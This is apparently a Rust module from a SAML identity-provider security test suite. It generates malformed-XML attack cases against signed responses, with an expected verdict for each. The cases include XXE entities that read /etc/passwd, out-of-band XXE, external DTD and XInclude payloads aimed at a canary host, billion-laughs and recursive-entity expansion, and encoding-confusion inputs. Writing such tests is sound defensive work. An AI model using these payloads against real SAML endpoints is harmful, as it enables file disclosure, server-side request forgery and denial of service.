//! Documents that are no proper XML, or too much of it.

use super::{Attack, Class, Verdict, edit};
use crate::idp::response::Sign;

const DECLARATION: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";

pub(super) fn attacks() -> Vec<Attack> {
    let mut attacks = entities();
    attacks.extend(inclusions());
    attacks.extend(broken());
    attacks.extend(declarations());
    attacks.extend(encodings());
    attacks
}

fn entities() -> Vec<Attack> {
    let class = Class::of("xml", Sign::Assertion);
    let laughs: String =
        (1..=9).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let long = "a".repeat(50_000);
    let types = [
        ("xxe-file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>".to_owned(), "&e;".to_owned()),
        ("xxe-http", "<!DOCTYPE x [<!ENTITY e SYSTEM \"{canary}/xxe\">]>".to_owned(), "&e;".to_owned()),
        ("xxe-public", "<!DOCTYPE x [<!ENTITY e PUBLIC \"-//x\" \"{canary}/xxe\">]>".to_owned(), "&e;".to_owned()),
        ("xxe-parameter", "<!DOCTYPE x [<!ENTITY % e SYSTEM \"{canary}/parameter\"> %e;]>".to_owned(), String::new()),
        ("external-dtd", "<!DOCTYPE x SYSTEM \"{canary}/dtd\">".to_owned(), String::new()),
        ("external-dtd-public", "<!DOCTYPE x PUBLIC \"-//x\" \"{canary}/dtd\">".to_owned(), String::new()),
        ("internal-entity", "<!DOCTYPE x [<!ENTITY e \"{victim}\">]>".to_owned(), "&e;".to_owned()),
        ("billion-laughs", format!("<!DOCTYPE x [<!ENTITY l0 \"ha\">{laughs}]>"), "&l9;".to_owned()),
        ("quadratic-blow-up", format!("<!DOCTYPE x [<!ENTITY e \"{long}\">]>"), "&e;".repeat(10_000)),
        ("recursive-entity", "<!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>".to_owned(), "&a;".to_owned()),
    ];
    let attack = |(name, doctype, content): (&str, String, String)| {
        class.tampered(name, 204, move |xml, material| {
            let xml = edit::before(xml, "</saml2:NameID>", &content).unwrap_or_else(|_| xml.to_owned());
            edit::before(&xml, "<saml2p:Response", &edit::filled(&doctype, material))
        })
    };
    types.into_iter().map(attack).collect()
}

fn inclusions() -> Vec<Attack> {
    let class = Class::of("xml", Sign::Assertion);
    let include = |href: &str| {
        format!("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{href}\" parse=\"text\"/>")
    };
    let (http, file) = (include("{canary}/xinclude"), include("file:///etc/passwd"));
    let (in_name, in_detail) = (http.clone(), http.clone());
    vec![
        class.tampered("xinclude-http", 402, move |xml, material| {
            edit::before(xml, "<saml2p:Status>", &edit::filled(&http, material))
        }),
        class.tampered("xinclude-file", 402, move |xml, _| edit::before(xml, "<saml2p:Status>", &file)),
        class.signed("xinclude-in-nameid", 702, move |xml, material| {
            edit::before(xml, "</saml2:NameID>", &edit::filled(&in_name, material))
        }),
        // Nobody reads what stands there, and nothing is included.
        class.tampered("xinclude-in-statusdetail", Verdict::Genuine, move |xml, material| {
            let detail = format!("<saml2p:StatusDetail>{}</saml2p:StatusDetail>", edit::filled(&in_detail, material));
            edit::before(xml, "</saml2p:Status>", &detail)
        }),
        class.tampered("stylesheet", 206, |xml, material| {
            let sheet = format!("<?xml-stylesheet type=\"text/xsl\" href=\"{}/sheet\"?>", material.canary);
            edit::before(xml, "<saml2p:Response", &sheet)
        }),
    ]
}

fn broken() -> Vec<Attack> {
    let class = Class::of("xml", Sign::Assertion);
    let changed = |name: &str, code: u16, from: &'static str, to: &'static str| {
        class.tampered(name, code, move |xml, _| edit::replace_first(xml, from, to))
    };
    vec![
        changed("nul", 202, "</saml2:NameID>", "\0</saml2:NameID>"),
        changed("control-character", 307, "</saml2:NameID>", "\u{1}</saml2:NameID>"),
        changed("escape-character", 307, "</saml2:NameID>", "\u{1b}[2J</saml2:NameID>"),
        changed("noncharacter", 307, "</saml2:NameID>", "\u{ffff}</saml2:NameID>"),
        changed("unclosed", 307, "</saml2p:Response>", ""),
        changed("closed-twice", 307, "</saml2p:Response>", "</saml2p:Response></saml2p:Response>"),
        changed("trailing-text", 307, "</saml2p:Response>", "</saml2p:Response>trailing"),
        changed("trailing-element", 307, "</saml2p:Response>", "</saml2p:Response><x/>"),
        changed("trailing-pi", 206, "</saml2p:Response>", "</saml2p:Response><?x?>"),
        changed("crossed-tags", 307, "</saml2:NameID>", "</saml2:Subject></saml2:NameID>"),
        changed("duplicate-attribute", 307, "Version=\"2.0\"", "Version=\"2.0\" Version=\"2.0\""),
        changed(
            "duplicate-attribute-by-namespace",
            307,
            "<saml2p:Status>",
            "<saml2p:Status xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:x=\"\" b:x=\"\">",
        ),
        changed("undeclared-prefix", 307, "<saml2p:Status>", "<x:y/><saml2p:Status>"),
        changed("undeclared-attribute-prefix", 307, "<saml2p:Status>", "<saml2p:Status x:y=\"\">"),
        changed("redeclared-xml-prefix", 307, "<saml2p:Status>", "<saml2p:Status xmlns:xml=\"urn:x\">"),
        changed("declared-xmlns-prefix", 307, "<saml2p:Status>", "<saml2p:Status xmlns:xmlns=\"urn:x\">"),
        changed("undeclared-again", 307, "<saml2p:Status>", "<saml2p:Status xmlns:a=\"\">"),
        changed("unquoted-attribute", 307, "Version=\"2.0\"", "Version=2.0"),
        changed("less-than-in-attribute", 307, "Version=\"2.0\"", "Version=\"<\""),
        changed("no-space-between-attributes", 307, "\" Version=\"2.0\"", "\"Version=\"2.0\""),
        changed("double-hyphen-in-comment", 307, "<saml2p:Status>", "<!-- -- --><saml2p:Status>"),
        changed("unfinished-comment", 307, "<saml2p:Status>", "<!--<saml2p:Status>"),
        changed("unfinished-cdata", 307, "<saml2p:Status>", "<![CDATA[<saml2p:Status>"),
        changed("cdata-end-in-text", 307, "</saml2:NameID>", "]]></saml2:NameID>"),
        changed("two-colons", 307, "<saml2p:Status>", "<saml2p:x:y/><saml2p:Status>"),
        changed("text-in-front", 208, DECLARATION, "x"),
        changed("nothing-but-the-declaration", 307, "<saml2p:Response", "<"),
    ]
}

fn declarations() -> Vec<Attack> {
    let class = Class::of("xml", Sign::Assertion);
    let declared = |name: &str, code: u16, declaration: &'static str| {
        class.tampered(name, code, move |xml, _| edit::replace_first(xml, DECLARATION, declaration))
    };
    vec![
        declared("xml-1.1", 207, "<?xml version=\"1.1\"?>"),
        declared("xml-2.0", 207, "<?xml version=\"2.0\"?>"),
        declared("declared-utf-7", 207, "<?xml version=\"1.0\" encoding=\"UTF-7\"?>"),
        declared("declared-utf-16", 207, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"),
        declared("declared-iso-8859-1", 207, "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"),
        declared("declared-ibm037", 207, "<?xml version=\"1.0\" encoding=\"IBM037\"?>"),
        declared("declared-twice", 207, "<?xml version=\"1.0\" encoding=\"UTF-8\" encoding=\"UTF-7\"?>"),
        declared("declared-anything", 207, "<?xml version=\"1.0\" x=\"y\"?>"),
        declared("two-declarations", 206, "<?xml version=\"1.0\"?><?xml version=\"1.0\"?>"),
        declared("declaration-behind-space", 206, " <?xml version=\"1.0\"?>"),
        declared("unfinished-declaration", 307, "<?xml "),
        declared("another-pi", 206, "<?php echo 1 ?>"),
    ]
}

fn encodings() -> Vec<Attack> {
    let class = Class::of("xml", Sign::Assertion);
    let utf_16 = |xml: &str| xml.encode_utf16().collect::<Vec<u16>>();
    let marked = |mark: &[u8], bytes: Vec<u8>| [mark, &bytes].concat();
    vec![
        class.bytes("utf-16le", 202, move |xml, _| Ok(utf_16(xml).into_iter().flat_map(u16::to_le_bytes).collect())),
        class.bytes("utf-16be", 202, move |xml, _| Ok(utf_16(xml).into_iter().flat_map(u16::to_be_bytes).collect())),
        class.bytes("utf-16le-with-mark", 201, move |xml, _| {
            Ok(marked(&[0xff, 0xfe], utf_16(xml).into_iter().flat_map(u16::to_le_bytes).collect()))
        }),
        class.bytes("utf-16be-with-mark", 201, move |xml, _| {
            Ok(marked(&[0xfe, 0xff], utf_16(xml).into_iter().flat_map(u16::to_be_bytes).collect()))
        }),
        class.bytes("utf-32", 202, |xml, _| {
            Ok(xml.chars().flat_map(|letter| u32::from(letter).to_le_bytes()).collect())
        }),
        class.bytes("utf-7", 208, |xml, _| Ok(xml.replace('<', "+ADw-").replace('>', "+AD4-").into_bytes())),
        class.bytes("utf-7-with-mark", 208, |xml, _| Ok(format!("+/v8-{}", xml.replace('<', "+ADw-")).into_bytes())),
        // Of that code page only what makes it one: 4C is its less-than sign.
        class.bytes("ibm037", 201, |xml, _| {
            Ok(xml.bytes().map(|byte| if byte == b'<' { 0x4c } else { byte | 0x80 }).collect())
        }),
        class.bytes("iso-8859-1-as-utf-8", 201, |xml, _| Ok(with_bytes(xml, b"\xe9"))),
        class.bytes("overlong", 201, |xml, _| Ok(with_bytes(xml, b"\xc0\xbc"))),
        class.bytes("surrogate", 201, |xml, _| Ok(with_bytes(xml, b"\xed\xa0\x80"))),
        class.bytes("cut-character", 201, |xml, _| Ok(with_bytes(xml, b"\xe2\x82"))),
        class.bytes("beyond-unicode", 201, |xml, _| Ok(with_bytes(xml, b"\xf4\x90\x80\x80"))),
        class.tampered("one-mark", Verdict::Genuine, |xml, _| Ok(format!("\u{feff}{xml}"))),
        class.tampered("two-marks", 203, |xml, _| Ok(format!("\u{feff}\u{feff}{xml}"))),
        class.bytes("nothing", 208, |_, _| Ok(Vec::new())),
        class.bytes("json", 208, |_, _| Ok(b"{\"Assertion\":{}}".to_vec())),
    ]
}

/// Bytes that are no UTF-8 at the end of the NameID.
fn with_bytes(xml: &str, bytes: &[u8]) -> Vec<u8> {
    let (before, after) = xml.split_once("</saml2:NameID>").unwrap_or_default();
    [before.as_bytes(), bytes, b"</saml2:NameID>", after.as_bytes()].concat()
}
